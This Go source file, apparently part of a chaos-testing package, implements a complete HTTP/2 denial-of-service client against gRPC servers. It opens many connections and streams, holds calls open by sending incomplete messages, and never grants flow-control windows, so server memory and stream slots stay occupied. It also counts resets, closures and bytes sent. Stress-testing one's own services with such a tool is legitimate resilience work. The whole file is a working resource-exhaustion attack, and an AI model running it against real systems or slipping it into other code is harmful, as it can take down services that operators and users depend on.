package chaos

import (
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attack is a hostile peer that occupies memory or streams of a gRPC server: it begins calls and
// never ends them, or sends requests and never reads the answers. It follows HTTP/2 throughout,
// including flow control and the server's limit of streams.
type Attack struct {
	// Address is the host:port of a listener without TLS, Path the full name of the method, and Token
	// the bearer token, empty for none.
	Address, Path, Token string
	// Connections is the number of connections, and Calls the number of open calls on each.
	Connections, Calls int
	// Pause is the time between two calls of a connection; a call that the server has ended is then
	// replaced by another. With 0, all calls begin at once and none is replaced.
	Pause time.Duration
	// Request is a whole message in gRPC's framing. The sender ends the call after it, but reads the
	// answer only as far as the first window of HTTP/2 allows, 64 KiB.
	Request []byte
	// Announced is used without a Request: it is the size of a message in bytes of which all but the
	// last byte are sent. The sender never ends the call.
	Announced int
}

// Attacked counts what an attack has done. Its fields grow while it runs.
type Attacked struct {
	// Calls is the number of calls begun, Reset of those that the server reset, and Ended of those
	// that it ended in good order. Closed is the number of connections that the server closed.
	Calls, Reset, Ended, Closed atomic.Int64
	// Sent and Received are the bytes of messages.
	Sent, Received atomic.Int64
}

// Run attacks until ctx ends, and returns when all connections are closed. Seen must not be nil.
func (a *Attack) Run(ctx context.Context, seen *Attacked) error {
	var all sync.WaitGroup
	var mu sync.Mutex
	var errs []error
	for range a.Connections {
		all.Go(func() {
			if err := a.connection(ctx, seen); err != nil && ctx.Err() == nil {
				mu.Lock()
				defer mu.Unlock()
				errs = append(errs, err)
			}
		})
	}
	all.Wait()
	return errors.Join(errs...)
}

// The initial window of HTTP/2 and the largest data frame sent, in bytes.
const (
	firstWindow = 65_535
	largeFrame  = 16 << 10
)

// attacker is one connection of an attack.
type attacker struct {
	attack *Attack
	seen   *Attacked
	conn   net.Conn
	framer *http2.Framer

	mu sync.Mutex // guards the fields below, and writing
	// window is the bytes that may be sent on the connection; initial is the window of a new stream.
	window, initial int64
	streams         map[uint32]*begun
	begun           int // calls begun so far
	// more is signalled when a frame was read, so that more may be sent.
	more chan struct{}
}

// begun is one call: its flow-control window and the bytes left to send.
type begun struct{ window, left int64 }

// connection attacks over one connection until ctx ends or the server closes it.
func (a *Attack) connection(ctx context.Context, seen *Attacked) error {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", a.Address)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	c := &attacker{attack: a, seen: seen, conn: conn, framer: http2.NewFramer(conn, conn), window: firstWindow, initial: firstWindow,
		streams: map[uint32]*begun{}, more: make(chan struct{}, 1)}
	var reading sync.WaitGroup
	gone := make(chan struct{})
	defer func() {
		_ = conn.Close()
		reading.Wait()
	}()
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err = errors.Join(err, c.framer.WriteSettings()); err != nil {
		return err
	}
	reading.Go(func() {
		defer close(gone)
		c.read()
	})
	var next <-chan time.Time
	if a.Pause > 0 {
		pauses := time.NewTicker(a.Pause)
		defer pauses.Stop()
		next = pauses.C
	} else if err := c.begin(a.Calls); err != nil {
		return nil // the server may close it at any time
	}
	for {
		if !c.send() {
			return nil
		}
		select {
		case <-c.more:
		case <-next:
			if c.begin(1) != nil {
				return nil
			}
		case <-gone:
			seen.Closed.Add(1)
			return nil
		case <-ctx.Done():
			return nil
		}
	}
}

// begin begins at most most further calls, up to Attack.Calls open ones.
func (c *attacker) begin(most int) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	head := c.headers()
	for range min(most, c.attack.Calls-len(c.streams)) {
		id := uint32(2*c.begun + 1)
		c.begun++
		if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		c.seen.Calls.Add(1)
		left := int64(len(c.attack.Request))
		if left == 0 {
			left = 5 + int64(c.attack.Announced) - 1
		}
		c.streams[id] = &begun{window: c.initial, left: left}
	}
	return nil
}

// headers returns the header block of a call. Nothing is indexed, so it is the same for every call.
func (c *attacker) headers() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	fields := [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", c.attack.Path}, {":authority", "x"},
		{"content-type", "application/grpc"}, {"te", "trailers"}}
	if c.attack.Token != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + c.attack.Token})
	}
	for _, f := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory
	}
	return block.Bytes()
}

// send sends all that the windows allow, one frame of each call in turn. It reports whether the
// connection is still usable.
func (c *attacker) send() bool {
	for {
		sent := false
		c.mu.Lock()
		for id, s := range c.streams {
			n := min(c.window, s.window, s.left, largeFrame)
			if n <= 0 {
				continue
			}
			data := c.piece(s, n)
			_ = c.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
			if err := c.framer.WriteData(id, len(c.attack.Request) > 0 && s.left == n, data); err != nil {
				c.mu.Unlock()
				return false
			}
			sent = true
			c.window, s.window, s.left = c.window-n, s.window-n, s.left-n
			c.seen.Sent.Add(n)
		}
		c.mu.Unlock()
		if !sent {
			return true
		}
	}
}

// piece returns the next bytes of a call's message.
func (c *attacker) piece(s *begun, n int64) []byte {
	if all := c.attack.Request; len(all) > 0 {
		at := int64(len(all)) - s.left
		return all[at : at+n]
	}
	data := make([]byte, n)
	if size := c.attack.Announced; s.left == int64(size)+4 && n >= 5 {
		copy(data, []byte{0, byte(size >> 24), byte(size >> 16), byte(size >> 8), byte(size)})
	}
	return data
}

// read handles the server's frames until the connection ends. It never opens a window for more
// data.
func (c *attacker) read() {
	for {
		f, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		c.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			c.settings(f)
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = c.framer.WritePing(true, f.Data) // the next write reports a failure
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				c.window += int64(f.Increment)
			} else if s := c.streams[f.StreamID]; s != nil {
				s.window += int64(f.Increment)
			}
		case *http2.RSTStreamFrame:
			c.forget(f.StreamID, &c.seen.Reset)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				c.forget(f.StreamID, &c.seen.Ended)
			}
		case *http2.DataFrame:
			c.seen.Received.Add(int64(len(f.Data())))
		}
		c.mu.Unlock()
		select {
		case c.more <- struct{}{}:
		default:
		}
	}
}

func (c *attacker) settings(f *http2.SettingsFrame) {
	if f.IsAck() {
		return
	}
	if size, ok := f.Value(http2.SettingInitialWindowSize); ok {
		for _, s := range c.streams {
			s.window += int64(size) - c.initial
		}
		c.initial = int64(size)
	}
	_ = c.framer.WriteSettingsAck() // the next write reports a failure
}

// forget removes a call that the server has ended, and counts it.
func (c *attacker) forget(id uint32, count *atomic.Int64) {
	if _, ok := c.streams[id]; ok {
		delete(c.streams, id)
		count.Add(1)
	}
}
